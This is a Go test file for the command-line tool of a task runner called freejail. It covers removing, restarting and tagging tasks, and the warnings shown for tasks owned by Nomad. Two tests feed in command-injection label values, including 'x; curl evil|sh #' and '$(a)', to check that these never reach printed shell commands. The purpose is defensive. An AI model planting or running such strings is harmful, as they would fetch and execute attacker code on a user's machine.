package cli

import (
	"fmt"
	"net"
	"strings"
	"testing"
	"time"

	"github.com/freejail/freejail/cmd/internal/app"
	"github.com/freejail/freejail/daemon/client"
)

func TestMany(t *testing.T) {
	h := newHost(t, "")
	for _, name := range []string{"one", "two", "three"} {
		h.gives(0, nil, "run", "-d", "--name", name, "prog", "wait")
	}
	h.gives(0, []string{"IMAGE", "JOB", "one", "prog"}, "ps")
	for _, c := range []struct {
		code int
		want string
		args []string
	}{
		{app.Usage, "", []string{"rm"}}, {app.Usage, "", []string{"rm", "--all", "one"}},
		{0, "", []string{"rm", "--all"}}, // they run
		{app.Usage, "", []string{"rm", "--filter", "status=dead"}},
		{0, "one\n", []string{"rm", "--force", "--filter", "name=on"}},
		{0, "two\n", []string{"kill", "two"}}, {0, "137\n", []string{"wait", "two"}},
		{app.Failed, "two\n", []string{"rm", "none", "two"}},
		{0, "three\n", []string{"rm", "-a", "-f"}},
	} {
		if r := h.freejail(c.args...); r.code != c.code || r.out != c.want {
			t.Errorf("%q: %+v, want %q", c.args, r, c.want)
		}
	}
	// What was not there, was given twice or is left is told, and is not among what was removed.
	for _, name := range []string{"four", "five"} {
		h.gives(0, nil, "run", "-d", "--name", name, "prog", "wait")
	}
	for _, c := range []struct {
		code        int
		out, errout string
		args        []string
	}{
		{0, "", "freejail: no such task: none\n", []string{"rm", "-f", "none"}},
		{0, "", "freejail: left, as they run (--force kills them): four five\n", []string{"rm", "--filter", "image=prog"}},
		{0, "", "freejail: left, as tasks run them: prog\n", []string{"images", "rm", "--filter", "name=prog"}},
		{0, "four\n", "", []string{"rm", "-f", "four", "four"}},
		{0, "five\n", "", []string{"rm", "-f", "--all"}},
		{app.Usage, "", `there is no used "yes"; expected one of true, false`, []string{"images", "-f", "used=yes"}},
		{app.Usage, "", "expected OS/ARCHITECTURE", []string{"images", "-f", "platform=linux"}},
		{app.Usage, "", `there is no mode "bridge"; expected one of host`, []string{"networks", "-f", "mode=bridge"}},
		{app.Usage, "", `there is no kind "foo"; expected one of approval`, []string{"events", "--filter", "kind=foo"}},
	} {
		if r := h.freejail(c.args...); r.code != c.code || r.out != c.out || !strings.Contains(r.errout, c.errout) ||
			c.errout == "" && r.errout != "" {
			t.Errorf("%q: %+v, want %+v", c.args, r, c)
		}
	}
	r := h.freejail("wait", "none", "gone")
	if r.code != app.Failed || !strings.Contains(r.errout, "none") || !strings.Contains(r.errout, "gone") {
		t.Errorf("wait: %+v", r)
	}
}

func TestRestart(t *testing.T) {
	h := newHost(t, "")
	h.gives(0, nil, "run", "-d", "--name", "one", "--env", "GREETING=hi", "prog", "wait")
	before := decoded[client.Task](h, "inspect", "one")
	h.gives(0, []string{"one"}, "restart", "-t", "30", "one")
	after := h.awaitState("one", client.Running)
	if after.PID == before.PID || after.Spec.Env["GREETING"] != "hi" || after.Digest != before.Digest {
		t.Errorf("restarted: %+v", after)
	}
	h.gives(0, nil, "stop", "-t", "30", "one")
	h.gives(0, []string{"one"}, "restart", "one") // it has ended
	h.awaitState("one", client.Running)
	h.gives(0, []string{"prog sha256:"}, "images", "import", "--name", "prog", h.image("prog", "ENV other=1\n"))
	if r := h.freejail("restart", "one"); r.code != 0 || !strings.Contains(r.errout, "it was "+before.Digest) {
		t.Errorf("with another image: %+v", r)
	}
	h.gives(0, nil, "images", "rm", "prog")
	h.gives(app.Failed, []string{"left as it is", "not on this host"}, "restart", "one")
	if now := decoded[client.Task](h, "inspect", "one"); now.State != client.Running {
		t.Errorf("left: %+v", now)
	}
	h.gives(0, nil, "rm", "-f", "one")
}

// What was stopped and does not start again is there, with its log, and is started when it can be.
func TestRestartThatFails(t *testing.T) {
	h := newHost(t, "permit {\n  ports = [\"1024-65535\"]\n}\n")
	h.gives(0, []string{"web sha256:"}, "images", "import", h.image("web", "PORT web 8080/tcp\n"))
	taken, err := net.Listen("tcp", "127.0.0.1:0")
	check(t, err)
	port := taken.Addr().String()
	check(t, taken.Close())
	h.gives(0, nil, "run", "-d", "--name", "one", "-p", "web="+port, "web", "wait", "x")
	awaitReady := func() {
		for !strings.Contains(h.freejail("logs", "one").out, "xgreeting") {
			time.Sleep(20 * time.Millisecond)
		}
	}
	stays := func() {
		t.Helper()
		h.gives(0, []string{"one", "exited (3"}, "ps", "-a")
		h.gives(0, []string{"bye"}, "logs", "one")
	}
	awaitReady()
	taken, err = net.Listen("tcp", port)
	check(t, err)
	h.gives(app.Failed, []string{"task one was stopped, and does not start again; it stays, with its log",
		"is taken on this host"}, "restart", "-t", "30", "one")
	stays()
	h.gives(app.Failed, []string{"had ended, and is left as it is", "is taken on this host"}, "restart", "one")
	stays()
	check(t, taken.Close())
	h.gives(0, []string{"one"}, "restart", "one")
	awaitReady()
	h.gives(0, nil, "shutdown")
	h.gives(app.Failed, []string{"had ended, and is left as it is", "being shut down"}, "restart", "one")
	stays()
	h.end()
	h.begin()
	h.gives(0, []string{"one"}, "restart", "one")
	h.awaitState("one", client.Running)
}

// A task of Nomad's would be lost to it.
func TestRestartOfNomads(t *testing.T) {
	labels := map[string]string{"alloc_id": "1-2", "task": "web", "nomad_task_id": "x"}
	task := &client.Task{ID: "x", Spec: client.TaskSpec{Owner: "nomad", Labels: labels}}
	if err := byNomad(task); err == nil || !strings.Contains(err.Error(), "nomad alloc restart -task web 1-2") {
		t.Error(err)
	}
	for _, name := range []string{"x; curl evil|sh #", "-purge", "a`b`", "$(a)", "a\nb", ""} {
		labels["task"] = name
		want := "task x is Nomad's: `nomad alloc restart` restarts it"
		if err := byNomad(task); err == nil || err.Error() != want {
			t.Errorf("%q: %v", name, err)
		}
	}
}

func TestTag(t *testing.T) {
	h := newHost(t, "")
	first := decoded[[]client.ImageInfo](h, "images")[0]
	h.gives(0, []string{"example.org/team/prog:2 " + first.Digest}, "tag", "prog", "example.org/team/prog:2")
	h.gives(0, nil, "tag", first.Digest[7:19], "other")
	if out := h.gives(0, nil, "images", "--filter", "name=pro", "--format", "{{.name}}"); out !=
		"example.org/team/prog:2\nprog\n" {
		t.Errorf("images --filter: %q", out)
	}
	h.gives(0, nil, "images", "--filter", "used=false", "--filter", "digest="+first.Digest[7:15], "-q")
	for name, why := range map[string]string{"file/x": "by the paths", "sha256:x": "not a name", "-x": "want"} {
		h.gives(app.Failed, []string{why}, "tag", "--", "prog", name)
	}
	h.gives(app.Failed, []string{"not on this host"}, "tag", "none", "x")
	h.gives(0, []string{"other"}, "images", "rm", "other")
	h.gives(0, nil, "run", "-d", "--name", "one", "prog", "wait")
	h.gives(0, nil, "images", "rm", "--all") // a task runs it
	h.gives(0, []string{"prog"}, "images")
	h.gives(0, nil, "rm", "-f", "one")
	h.gives(app.Failed, []string{"none"}, "images", "rm", "prog", "none")
	if out := h.gives(0, nil, "images", "rm", "--all"); out != "example.org/team/prog:2\n" {
		t.Errorf("images rm --all: %q", out)
	}
}

// Who ends a task of Nomad's is told that Nomad may start it again; of other tasks, and of signals that end none, not.
func TestEndOfATaskOfNomad(t *testing.T) {
	h := newHost(t, "")
	for i, c := range []struct {
		owner string
		want  bool
		args  []string
	}{{"nomad", true, []string{"stop", "-t", "30"}}, {"nomad", true, []string{"rm", "-f"}},
		{"nomad", true, []string{"kill"}}, {"nomad", false, []string{"kill", "-s", "WINCH"}},
		{"cli", false, []string{"stop", "-t", "30"}}, {"cli", false, []string{"rm", "-f"}}} {
		spec := client.TaskSpec{ID: fmt.Sprint("task", i), Owner: c.owner, Image: "prog"}
		if c.owner == "nomad" {
			spec.Labels = map[string]string{"alloc_id": "a1", "job": "the shop", "job_id": "web/periodic-1",
				"task": "one", "namespace": "team"}
		}
		told := "warning: task " + spec.ID + " is of Nomad's job the shop, and Nomad may start it " +
			"again: `nomad job stop -namespace team web/periodic-1` ends the job\n"
		_, err := client.New(h.socket).Start(t.Context(), spec)
		check(t, err)
		r := h.freejail(append(c.args, spec.ID)...)
		if r.code != 0 || strings.Contains(r.errout, told) != c.want || !c.want && r.errout != "" {
			t.Errorf("%s, %q: %+v", c.owner, c.args, r)
		}
		h.gives(0, nil, "rm", "-f", spec.ID)
	}
}

// No command to copy has in it what a job's author wrote for a shell, or has the job's name for its ID.
func TestEndOfATaskOfAHostileJob(t *testing.T) {
	h := newHost(t, "")
	for i, labels := range []map[string]string{
		{"job": "web"}, // of a journal of before
		{"job": "web", "job_id": "-purge x; curl evil|sh #"},
		{"job": "web", "job_id": "-purge"},
		{"job": "web", "job_id": "a`b`"},
		{"job": "web", "job_id": "$(b)"},
		{"job": "web", "job_id": "web", "namespace": "-x"},
	} {
		labels["alloc_id"] = "a1"
		id := fmt.Sprint("task", i)
		_, err := client.New(h.socket).Start(t.Context(),
			client.TaskSpec{ID: id, Owner: "nomad", Image: "prog", Labels: labels})
		check(t, err)
		want := "freejail: warning: task " + id + " is of Nomad's job web, and Nomad may start it again: " +
			"stopping the job ends it\n"
		if r := h.freejail("rm", "-f", id); r.code != 0 || r.errout != want {
			t.Errorf("%q: %+v", labels, r)
		}
	}
	_, err := client.New(h.socket).Start(t.Context(), client.TaskSpec{ID: "named", Owner: "nomad", Image: "prog",
		Labels: map[string]string{"alloc_id": "a1", "job": "`-purge x; curl evil|sh #`", "job_id": "web"}})
	check(t, err)
	r := h.freejail("rm", "-f", "named")
	if strings.Count(r.errout, "`") != 2 || !strings.Contains(r.errout, "`nomad job stop -namespace default web` ends") {
		t.Errorf("%+v", r)
	}
}

// Who is shown standard output alone is told that there is more, and by --check which file was read.
func TestOutputIsNotAll(t *testing.T) {
	h := newHost(t, "")
	h.gives(0, nil, "run", "--name", "one", "prog", "say", "hello")
	const note = "freejail: standard error has lines too: --stderr shows them\n"
	for _, more := range [][]string{nil, {"-f"}} {
		if r := h.freejail(append([]string{"logs", "one"}, more...)...); r.out != "hello\n" || r.errout != note {
			t.Errorf("%q: %+v", more, r)
		}
	}
	if r := h.freejail("logs", "--stderr", "one"); r.out != "to standard error\n" || r.errout != "" {
		t.Errorf("standard error: %+v", r)
	}
	h.gives(0, []string{"the configuration is valid: " + h.path("freejail.hcl") + "\n"}, "daemon", "--check", "--config",
		h.path("freejail.hcl"))
	h.gives(0, []string{"no configuration was read"}, "daemon", "--check")
}
